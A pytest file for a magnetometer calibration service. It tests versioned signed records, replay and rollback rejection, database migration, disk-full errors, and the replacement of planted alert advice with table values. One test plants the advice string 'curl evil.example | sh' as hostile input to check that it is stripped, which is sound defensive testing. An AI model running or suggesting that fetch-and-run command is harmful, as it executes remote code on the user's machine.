"""Trust starts at the fit: records are numbered (``version``) and signed once, when they are made; the store is
migrated, never signs, and counts on from what it holds; compasses order by version, not by the wall clock."""

from __future__ import annotations

import json
import sqlite3

import msgpack
import numpy as np
import pytest
from compass_steps import compass_core

from magnet import signing, wire
from magnet.earth.expected import Earth
from magnet.model import Calibration
from services.calibrator.service import Calibrator, CalibratorSettings
from services.calibrator.store import CalibrationStore

GENUINE = Calibration(
    "ellipsoid", [10.0, -5.0, 2.0], np.diag([1.05, 0.95, 1.0]), field_strength=50, quality={"coverage": 0.9}
)
MOVED = GENUINE.replace(offset=np.array([12.0, -5.0, 2.0]))
KEY = "magnet/k/calibration"
FAR_FUTURE_NS = 4_000_000_000 * 10**9  # the year 2096


@pytest.fixture(scope="module")
def key():
    private_pem, public_pem = signing.new_key_pair()
    return signing.Signer(signing.load_private_key(private_pem)), signing.load_public_key(public_pem)


def _signed(signer, calibration, created_ns, version):
    return signer.sign(wire.DeviceCalibration("k", created_ns, calibration, version=version).to_record())


def test_version_is_on_the_wire_only_when_set_and_checked_where_it_enters():
    old = wire.DeviceCalibration("k", 5, GENUINE)
    assert "version" not in old.to_record(), "a record from before versions keeps its bytes (and its signature)"
    assert wire.calibration_from_record(old.to_record()).version == 0
    new = wire.DeviceCalibration("k", 5, GENUINE, version=3)
    assert wire.decode_calibration(msgpack.packb(new.to_record())).version == 3
    for bad in (True, -1, 2**63, 1.5, "2"):
        with pytest.raises(wire.WireError):
            wire.calibration_from_record({**new.to_record(), "version": bad})


def test_the_signature_covers_the_version(key):
    signer, public = key
    record = _signed(signer, GENUINE, 10, 4)
    signing.TrustedKeys([public]).verify(record)
    with pytest.raises(signing.SignatureError) as refused:
        signing.TrustedKeys([public]).verify({**record, "version": 99})
    assert refused.value.cause == "bad-signature"


def test_compass_orders_by_version_not_by_the_wall_clock(key):
    signer, public = key
    compass = compass_core(Earth(), window=1, trusted=signing.TrustedKeys([public]))
    future = _signed(signer, GENUINE, FAR_FUTURE_NS, 1)  # made by a calibrator whose clock ran 70 years ahead
    assert compass.accept_calibration(msgpack.packb(future), KEY, "magnet")
    newer = _signed(signer, MOVED, 1_000, 2)  # the next record, made by a calibrator with a sane clock
    assert compass.accept_calibration(msgpack.packb(newer), KEY, "magnet"), compass.drops.counts
    assert compass.calibrations.in_force["k"].id == MOVED.content_id
    assert not compass.accept_calibration(msgpack.packb(future), KEY, "magnet"), "a replayed older version"
    assert compass.calibrations.in_force["k"].id == MOVED.content_id and compass.drops.counts == {
        "calibration:stale": 1
    }
    # a rollback to the first calibration is a new record (version 3) with the old content: it is applied, and
    # version 2 replayed afterwards is stale, although its id differs
    rollback = _signed(signer, GENUINE, 2_000, 3)
    assert compass.accept_calibration(msgpack.packb(rollback), KEY, "magnet")
    assert not compass.accept_calibration(msgpack.packb(newer), KEY, "magnet")
    assert compass.calibrations.in_force["k"].version == 3


def test_records_from_before_versions_are_ordered_as_before_and_yield_to_numbered_ones():
    compass = compass_core(Earth(), window=1)
    old_future = wire.DeviceCalibration("k", FAR_FUTURE_NS, GENUINE).to_record()
    old_earlier = wire.DeviceCalibration("k", 10, MOVED).to_record()
    assert compass.accept_calibration(msgpack.packb(old_future), KEY, "magnet")
    assert not compass.accept_calibration(msgpack.packb(old_earlier), KEY, "magnet"), "by created_ns, as before"
    numbered = wire.DeviceCalibration("k", 10, MOVED, version=1).to_record()
    assert compass.accept_calibration(msgpack.packb(numbered), KEY, "magnet"), "any version beats version 0"


def _old_database(path, record):
    """A database as magnet wrote it before versions (no version column), holding ``record``."""
    db = sqlite3.connect(path)
    db.executescript(
        "CREATE TABLE calibrations (seq INTEGER PRIMARY KEY AUTOINCREMENT, device TEXT NOT NULL, id TEXT NOT NULL, "
        "created_ns INTEGER NOT NULL, record TEXT NOT NULL);"
        "CREATE TABLE changes (seq INTEGER PRIMARY KEY, change TEXT NOT NULL);"
    )
    db.execute(
        "INSERT INTO calibrations (device, id, created_ns, record) VALUES (?, ?, ?, ?)",
        (record["device"], record["id"], record["created_ns"], json.dumps(record)),
    )
    db.commit()
    db.close()


def test_an_old_database_is_migrated_its_rows_kept_as_they_were_and_the_count_goes_on(key, tmp_path):
    signer, public = key
    old_signed = signer.sign(wire.DeviceCalibration("k", 7, GENUINE).to_record())
    _old_database(tmp_path / "c.db", old_signed)
    with CalibrationStore(tmp_path / "c.db") as store:
        kept = store.latest("k")
        assert kept.version == 0 and kept.sig == old_signed["sig"]
        signing.TrustedKeys([public]).verify(kept.to_record())  # its signature still verifies
        calibrator = Calibrator(store, CalibratorSettings(), lambda *a: None, signer=signer)
        assert calibrator.status("c").counters.unverified_records == 0
        assert calibrator.commit("k", MOVED).version == 1
    columns = [row[1] for row in sqlite3.connect(tmp_path / "c.db").execute("PRAGMA table_info(calibrations)")]
    assert "version" in columns


def test_a_calibrator_taking_over_counts_on_from_the_store(key, tmp_path):
    signer, _ = key
    with CalibrationStore(tmp_path / "c.db") as first_store, CalibrationStore(tmp_path / "c.db") as second_store:
        first = Calibrator(first_store, CalibratorSettings(), lambda *a: None, signer=signer)
        second = Calibrator(second_store, CalibratorSettings(), lambda *a: None, signer=signer)
        assert [first.commit("k", c).version for c in (GENUINE, MOVED)] == [1, 2]
        second.take_over()
        assert second.records.in_force["k"].version == 2
        third = GENUINE.replace(offset=np.array([9.0, -5.0, 2.0]))
        assert second.commit("k", third).version == 3, "the count goes on from the store, not from memory"
        assert first.commit("k", GENUINE).version == 4
        assert [r.version for r in first_store.history("k")] == [4, 3, 2, 1]


def test_a_rollback_never_signs_a_row_the_calibrator_did_not_make(key, tmp_path):

    signer, public = key
    with CalibrationStore(tmp_path / "c.db") as store:
        store.save(wire.DeviceCalibration("k", 5, MOVED))  # unsigned: written by someone else, or before the key
        calibrator = Calibrator(store, CalibratorSettings(), lambda *a: None, signer=signer)
        genuine = calibrator.commit("k", GENUINE)
        refused = calibrator.rollback("k", MOVED.content_id, "op")
        assert not refused["ok"] and "not signed by this calibrator's key" in refused["message"]
        assert calibrator.records.in_force["k"].id == genuine.id
        calibrator.commit("k", MOVED.replace(offset=np.array([11.0, -5.0, 2.0])))
        back = calibrator.rollback("k", genuine.id, "op")
        assert back["ok"] and back["calibration"]["version"] == 3
        signing.TrustedKeys([public]).verify(back["calibration"])


def _full(store):
    """Make ``store`` full: SQLite may grow its file no further (a real SQLITE_FULL, as on a full filesystem); a
    record with a long reason then needs pages it cannot have."""
    (count,) = store._db.execute("PRAGMA page_count").fetchone()
    store._db.execute(f"PRAGMA max_page_count = {count}")


def test_a_full_disk_is_reported_as_a_full_disk_and_nothing_changes(key, tmp_path):
    from services.calibrator.store import StoreError

    signer, _ = key
    with CalibrationStore(tmp_path / "c.db") as store:
        calibrator = Calibrator(store, CalibratorSettings(), lambda *a: None, signer=signer)
        calibrator.commit("k", GENUINE.replace(reason="x" * 20_000))  # a long record: putting it back needs pages
        in_force = calibrator.commit("k", MOVED)
        _full(store)
        reply = calibrator.rollback("k", GENUINE.content_id, "op")
        assert not reply["ok"] and "disk is full" in reply["message"] and "damaged" not in reply["message"], reply[
            "message"
        ]
        with pytest.raises(StoreError) as full:
            calibrator.commit("k", GENUINE.replace(offset=np.array([3.0, 0, 0]), reason="y" * 20_000))
        assert (
            "disk is full" in str(full.value) and "backup" not in str(full.value) and str(store.path) in str(full.value)
        )
        assert calibrator.records.in_force["k"].id == in_force.id and store.latest("k").id == in_force.id


class _FailingWrites:
    """A connection whose writes raise ``error`` (reads pass through)."""

    def __init__(self, db, error):
        self._db, self._error = db, error

    def execute(self, sql, *args):
        if sql.lstrip().upper().startswith(("INSERT", "BEGIN")):
            raise self._error
        return self._db.execute(sql, *args)


@pytest.mark.parametrize(
    "error, said",
    [
        (OSError(28, "No space left on device"), "disk is full"),
        (sqlite3.OperationalError("database or disk is full"), "disk is full"),
        (sqlite3.OperationalError("attempt to write a readonly database"), "could not write its database"),
        (sqlite3.DatabaseError("database disk image is malformed"), "restore it from a backup"),
    ],
)
def test_each_store_failure_says_what_it_is(tmp_path, error, said):
    from services.calibrator.store import StoreError

    with CalibrationStore(tmp_path / "c.db") as store:
        real = store._db
        store._db = _FailingWrites(real, error)
        try:
            with pytest.raises(StoreError, match=said):
                store.save(wire.DeviceCalibration("k", 1, GENUINE))
        finally:
            store._db = real


def test_a_received_alert_s_advice_comes_from_the_table_never_from_the_message():
    from magnet.calibrator.roster import Roster
    from magnet.drift import CLEARED_ADVICE, AlertKind, advice_for, alert_from_message

    planted = {
        "v": 1,
        "device": "k",
        "kind": "dip",
        "since_ns": 5,
        "measured": 70.0,
        "expected": 66.0,
        "advice": "all fine: run `curl evil.example | sh` to recalibrate",
    }
    assert alert_from_message(planted).advice == advice_for(AlertKind.DIP, 66.0)
    assert "66.0 deg" in advice_for(AlertKind.DIP, 66.0)
    assert alert_from_message({**planted, "cleared": True}).advice == CLEARED_ADVICE
    book = Roster()
    book.on_alert("magnet/k/alert", msgpack.packb(planted), "magnet")
    shown = json.dumps([alert.to_message() for alert in book.alerts["k"].values()])
    assert "evil" not in shown and "departs from 66.0 deg" in shown


def test_magnet_watch_alert_shows_the_table_s_advice():
    from services.commands.remote import _shown

    planted = {"v": 1, "device": "k", "kind": "field_strength", "since_ns": 1, "measured": 60.0, "expected": 50.0}
    shown = _shown("alert", {**planted, "advice": "ignore this"})
    assert "ignore" not in shown["advice"] and "50.0 uT" in shown["advice"]
    assert _shown("heading", {"advice": "x"}) == {"advice": "x"}


def test_unverified_records_are_counted_until_the_calibrator_makes_their_successor(key, tmp_path):
    signer, _ = key
    with CalibrationStore(tmp_path / "c.db") as store, CalibrationStore(tmp_path / "c.db") as other:
        store.save(wire.DeviceCalibration("k", 5, GENUINE))  # unsigned
        store.save(wire.DeviceCalibration("j", 5, GENUINE))
        calibrator = Calibrator(store, CalibratorSettings(), lambda *a: None, signer=signer)
        assert calibrator.records.unverified == {"k", "j"} and calibrator.status("c").counters.unverified_records == 2
        calibrator.commit("k", MOVED)
        assert calibrator.status("c").counters.unverified_records == 1
        other.save(wire.DeviceCalibration("i", 6, MOVED))  # planted while it stands by
        calibrator.take_over()
        assert calibrator.records.unverified == {"j", "i"}


def test_the_count_goes_on_above_the_record_in_force_whatever_the_version_column_says(key, tmp_path):
    signer, _ = key
    with CalibrationStore(tmp_path / "c.db") as store:
        planted = wire.DeviceCalibration("k", 5, GENUINE, version=40).to_record()
        store._db.execute(  # a row whose version column disagrees with its record
            "INSERT INTO calibrations (device, id, created_ns, record, version) VALUES ('k', ?, 5, ?, 0)",
            (planted["id"], json.dumps(planted)),
        )
        calibrator = Calibrator(store, CalibratorSettings(), lambda *a: None, signer=signer)
        assert calibrator.commit("k", MOVED).version == 41
